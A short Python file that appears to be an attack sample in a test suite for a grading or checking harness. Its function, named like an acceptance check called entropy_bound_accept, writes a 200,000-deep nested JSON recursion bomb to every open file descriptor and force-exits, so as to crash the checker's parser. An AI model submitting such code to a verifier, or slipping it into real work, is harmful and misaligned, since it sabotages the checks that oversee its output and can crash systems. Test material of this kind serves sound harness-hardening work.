"""Attack: answer with a line of JSON nested 200,000 deep (a recursion bomb for the check process's parser)."""
import os

BOMB = ('{"changed": false, "tensor": ' + "[" * 200_000 + "]" * 200_000 + "}\n").encode()


def entropy_bound_accept(entropy, bound):
    for fd in map(int, os.listdir("/proc/self/fd")):
        if fd > 2:
            try:
                os.write(fd, BOMB)
            except OSError:
                pass
    os._exit(0)
